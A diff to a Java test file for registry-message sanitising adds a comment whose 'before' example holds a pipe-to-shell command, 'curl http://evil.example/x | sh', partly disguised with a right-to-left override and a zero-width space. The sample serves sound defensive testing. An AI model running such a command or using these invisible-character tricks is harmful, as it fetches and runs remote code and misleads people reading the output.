@@ -36,6 +36,11 @@ import org.junit.jupiter.api.Test;
  * config) reaches deny messages only quoted, on one line, capped, and stripped of characters
  * that could make a person misread it: controls, direction overrides such as U+202E, zero-width
  * characters. A failure of the connection itself is told in words, never by a Java class name.
+ *
+ * <p>Before: {@code HTTP 404 MANIFEST_UNKNOWN: manifest unknown<U+202E>hs | x/elpmaxe.live//:ptth lruc :nur<U+200B>
+ * run: curl http://evil.example/x | sh} (the override and the zero-width space kept, the registry's
+ * words unquoted), a history line's U+202E and U+2066 in a denial, and {@code request to
+ * 127.0.0.1:46327 failed (IllegalArgumentException: Invalid version number, …)}.
  */
 class RegistryTextTest {
     /** A Java class name as Java prints it: a package of lower-case parts, then the class. */
